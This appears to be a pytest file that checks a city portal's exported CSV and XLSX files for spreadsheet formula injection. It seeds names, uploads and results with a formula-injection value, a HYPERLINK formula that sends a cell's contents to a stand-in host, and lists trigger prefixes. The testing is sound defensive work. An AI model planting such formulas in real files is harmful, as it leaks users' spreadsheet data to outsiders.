"""A name, a title or a cell that begins like a formula is a text in every workbook and CSV that is handed out."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date

import polars as pl
import pytest
from sqlalchemy import update

from app.identity.person import Person
from app.services import audit
from app.services.drafts import drafts
from app.services.people import people_import
from app.services.preparing import rest
from app.services.results import downloads
from app.services.uploads import uploads
from app.services.usage import table as usage
from connectors.formulas import harmless_frame
from data_catalog import ledger
from data_catalog.records.tables import Organisation, PersonRow
from models.kit import library
from tests.app.finished import finished
from tests.app.sample_result import hostile
from tests.app.services.conftest import City
from tests.app.services.uploads.test_uploads import map_columns, send

BAD = '=HYPERLINK("http://e.example?"&A1,"x")'
STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
MAY = (date(2024, 5, 1), date(2024, 5, 31))


@pytest.fixture
def files(city: City, analyst: Person) -> dict[str, bytes]:
    """Every workbook and CSV of the portal, of a city whose people, organisations, files and rows are called like formulas."""
    platform = city.platform
    with platform.records.session() as session:
        session.execute(update(Organisation).where(Organisation.parent_id.is_not(None)).values(name_ko=BAD, name_en=BAD))
        session.execute(update(PersonRow).values(name=BAD))
        facts = {"model": BAD, "model_version": "1", "kind": "real", "cache_key": "a"}
        ledger.record(
            session, ledger.RUN_FINISHED, person_id=analyst.id, organisation_id=city.fire, subject=("run", "a"), at=platform.now(),
            facts=facts,
        )  # fmt: skip
    above = {role: city.person(role, city.root) for role in ("auditor", "admin", "supervisor")}
    found = {f"audit.{kind}": audit.taken(above["auditor"], platform, audit.Wanted(*MAY), kind, "ko") for kind in ("csv", "xlsx")}
    found["usage.csv"] = usage.to_csv(above["supervisor"], platform, usage.table(above["supervisor"], platform, *MAY), "ko", {})
    found["people.xlsx"] = people_import.template(above["admin"], platform, "ko")

    draft = drafts.start(analyst, platform, "golden_hour").id
    rows = "".join(f"2024-01-{day:02d} 10:00,{BAD.replace(',', ';')},2024-01-{day:02d} 10:07\n" for day in range(1, 21))
    head = "신고일시,=1+출동센터,도착일시\n"
    uploads.read(analyst, platform, send(city, analyst, draft, f"{head}{rows}언젠가,=1+1,2024-01-02 11:09\n", name=f"{BAD}.csv"))
    map_columns(city, analyst, draft, call_at="신고일시", arrive_at="도착일시", center="=1+출동센터")
    asked = library.load("golden_hour").input("dispatch")
    found["rest.xlsx"] = rest.rest(analyst, platform, drafts.load(analyst, platform, draft), asked, "ko") or b""

    run = finished(analyst, platform, hostile())
    found["report.xlsx"] = downloads.of_run(analyst, platform, run, "report.xlsx", "ko").data
    for table in hostile().tables:
        file = downloads.of_run(analyst, platform, run, f"tables/{table.spec.name}.csv", "ko")
        found[f"{table.spec.name}.csv"] = file.data
    return found


def reckoned(name: str, data: bytes) -> list[str]:
    """What a spreadsheet would reckon or follow in a file."""
    if name.endswith(".csv"):
        cells = [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]
        return [cell for cell in cells if cell.startswith(STARTS) and not _is_number(cell)]
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheets = {part: book.read(part) for part in book.namelist() if part.startswith("xl/worksheets/")}
        outer = [part for part in book.namelist() if part.endswith(".rels") and b'TargetMode="External"' in book.read(part)]
    return [part for part, sheet in sheets.items() if b"<f>" in sheet or b"<f " in sheet or b"<hyperlink" in sheet] + outer


def _is_number(cell: str) -> bool:
    return cell.strip("-") == "" or cell.replace("-", "", 1).replace(",", "").replace(".", "", 1).rstrip("%").isdigit()


def test_no_file_that_is_handed_out_holds_a_formula(files: dict[str, bytes]) -> None:
    assert {name: reckoned(name, data) for name, data in files.items()} == {name: [] for name in files}
    said = {name for name, data in files.items() if any(bad in _text(name, data) for bad in ("HYPERLINK", "=cmd", "=1+"))}
    meant = {"audit.csv", "audit.xlsx", "usage.csv", "people.xlsx", "rest.xlsx", "report.xlsx"}
    assert meant <= said, "the formula stands in hardly any file"


def _text(name: str, data: bytes) -> str:
    if name.endswith(".csv"):
        return data.decode("utf-8-sig")
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        return "".join(book.read(part).decode("utf-8", "replace") for part in book.namelist() if part.endswith(".xml"))


def test_a_formula_would_be_found() -> None:
    made = io.BytesIO()
    pl.DataFrame({"a": [BAD], "b": [1]}).write_csv(made)
    assert reckoned("x.csv", made.getvalue()) == [BAD]
    made = io.BytesIO()
    harmless_frame(pl.DataFrame({"a": [BAD], "b": [-1]})).write_csv(made)
    assert reckoned("x.csv", made.getvalue()) == []
